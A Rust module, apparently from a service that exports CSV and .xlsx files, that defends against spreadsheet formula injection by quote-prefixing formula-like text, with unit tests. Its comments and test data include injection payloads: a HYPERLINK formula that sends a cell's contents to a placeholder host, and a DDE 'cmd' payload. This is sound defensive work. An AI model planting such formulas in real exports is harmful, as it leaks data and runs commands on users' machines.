//! Text cells that no spreadsheet evaluates: the one rule every CSV and .xlsx the service writes
//! goes through (OWASP "CSV injection").
//!
//! Names, ID numbers and raw cells of rejected rows come from uploads and forms, so a cell may
//! hold `=HYPERLINK(...)` or `+cmd|' /C calc'!A0`. Excel and LibreOffice take a CSV field that
//! begins with `=`, `+`, `-` or `@` for a formula, and a tab or a carriage return in front does
//! not stop them; in an .xlsx a string cell is not evaluated when the file opens, but becomes a
//! formula as soon as a clerk edits it. So such text is written inert: in CSV with a leading
//! `'`, which spreadsheets read as "this is text"; in .xlsx as a string cell with the quote
//! prefix (Excel's own `'`), which shows the text unchanged and keeps it text after editing.
//!
//! Numbers are not touched: a field that is a plain decimal number, such as `-300.00` for a
//! reversal, is no formula, and money and counts go into .xlsx as numeric cells anyway.

use std::borrow::Cow;

use rust_xlsxwriter::{Format, Worksheet, XlsxError};

/// Whether a spreadsheet could read `text` as a formula: it begins with `=`, `+`, `-`, `@`, a
/// tab or a carriage return, and is not a plain decimal number.
pub fn is_formula_like(text: &str) -> bool {
    match text.as_bytes().first() {
        Some(b'=' | b'@' | b'\t' | b'\r') => true,
        Some(b'+' | b'-') => !is_plain_number(text),
        _ => false,
    }
}

/// A sign, digits and at most one decimal point with digits after it: `-300.00`, `+5`, `-7`.
/// Anything more (`-1+1`, `-1e5`, `--2`) is treated as text.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, fraction) = match digits.split_once('.') {
        Some((w, f)) => (w, Some(f)),
        None => (digits, None),
    };
    let all_digits = |s: &str| s.bytes().all(|b| b.is_ascii_digit());
    !whole.is_empty()
        && all_digits(whole)
        && fraction.is_none_or(|f| !f.is_empty() && all_digits(f))
}

/// A CSV field as written: formula-like text gets a leading `'`; anything else, numbers
/// included, stays as it is.
pub fn csv_field(text: &str) -> Cow<'_, str> {
    if is_formula_like(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Writes one CSV record, every field through [`csv_field`].
pub fn write_csv_record<W, I, S>(w: &mut csv::Writer<W>, fields: I) -> csv::Result<()>
where
    W: std::io::Write,
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    for f in fields {
        w.write_field(csv_field(f.as_ref()).as_bytes())?;
    }
    // An empty record after the fields ends the line (the csv crate's way to finish a record
    // written field by field).
    w.write_record(None::<&[u8]>)
}

/// The format a formula-like text is written with: `format` plus the quote prefix.
fn quoted(format: Option<&Format>) -> Format {
    format.cloned().unwrap_or_default().set_quote_prefix()
}

/// Writes `text` as a string cell, in `format` if any; formula-like text also gets the quote
/// prefix, so that Excel shows it as typed and never turns it into a formula. (No format is
/// cheaper than a plain one: each format is looked up per cell.)
pub fn write_text(
    sheet: &mut Worksheet,
    row: u32,
    col: u16,
    text: &str,
    format: Option<&Format>,
) -> Result<(), XlsxError> {
    if is_formula_like(text) {
        sheet.write_string_with_format(row, col, text, &quoted(format))?;
    } else if let Some(format) = format {
        sheet.write_string_with_format(row, col, text, format)?;
    } else {
        sheet.write_string(row, col, text)?;
    }
    Ok(())
}

/// As [`write_text`], for a text spanning merged cells.
pub fn merge_text(
    sheet: &mut Worksheet,
    (first_row, first_col): (u32, u16),
    (last_row, last_col): (u32, u16),
    text: &str,
    format: &Format,
) -> Result<(), XlsxError> {
    if is_formula_like(text) {
        sheet.merge_range(
            first_row,
            first_col,
            last_row,
            last_col,
            text,
            &quoted(Some(format)),
        )?;
    } else {
        sheet.merge_range(first_row, first_col, last_row, last_col, text, format)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    const ATTACKS: &[&str] = &[
        "=HYPERLINK(\"http://x\"&B2,\"核对\")",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "-",
        "+",
        "=",
        "-1e5",
        "--2",
        "-.5",
        "-5.",
    ];

    #[test]
    fn formula_like_text_is_caught() {
        for a in ATTACKS {
            assert!(is_formula_like(a), "{a:?}");
            assert_eq!(csv_field(a), format!("'{a}"), "{a:?}");
        }
    }

    #[test]
    fn numbers_and_plain_text_pass_unchanged() {
        for ok in [
            "-300.00",
            "+5",
            "-7",
            "0",
            "1234.5",
            "220102199001011234",
            "张三",
            "",
            " =1",
            "a=1",
            "'=1",
            "城市低保",
            "2025-03-01",
        ] {
            assert!(!is_formula_like(ok), "{ok:?}");
            assert!(
                matches!(csv_field(ok), Cow::Borrowed(s) if s == ok),
                "{ok:?}"
            );
        }
    }

    #[test]
    fn a_csv_record_prefixes_only_its_formula_like_fields() {
        let mut w = csv::Writer::from_writer(vec![]);
        write_csv_record(&mut w, ["=1+1", "-300.00", "张三", "@A1"]).unwrap();
        let out = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(out, "'=1+1,-300.00,张三,'@A1\n");
    }

    #[test]
    fn xlsx_text_is_a_string_cell_and_formula_like_text_carries_the_quote_prefix() {
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        let plain = Format::new().set_num_format("@");
        write_text(sheet, 0, 0, "=1+1", Some(&plain)).unwrap();
        write_text(sheet, 0, 1, "张三", Some(&plain)).unwrap();
        write_text(sheet, 0, 2, "@A1", None).unwrap();
        write_text(sheet, 0, 3, "-300.00", None).unwrap();
        merge_text(sheet, (1, 0), (1, 2), "@SUM(A1)", &Format::new()).unwrap();
        let bytes = book.save_to_buffer().unwrap();
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        let read = |zip: &mut zip::ZipArchive<_>, name: &str| {
            let mut s = String::new();
            std::io::Read::read_to_string(&mut zip.by_name(name).unwrap(), &mut s).unwrap();
            s
        };
        let sheet_xml = read(&mut zip, "xl/worksheets/sheet1.xml");
        let styles = read(&mut zip, "xl/styles.xml");
        assert!(!sheet_xml.contains("<f>"), "{sheet_xml}");
        // "=1+1" in the text format, "@A1" and the merged range in the default one.
        assert_eq!(styles.matches("quotePrefix=\"1\"").count(), 2, "{styles}");
    }
}
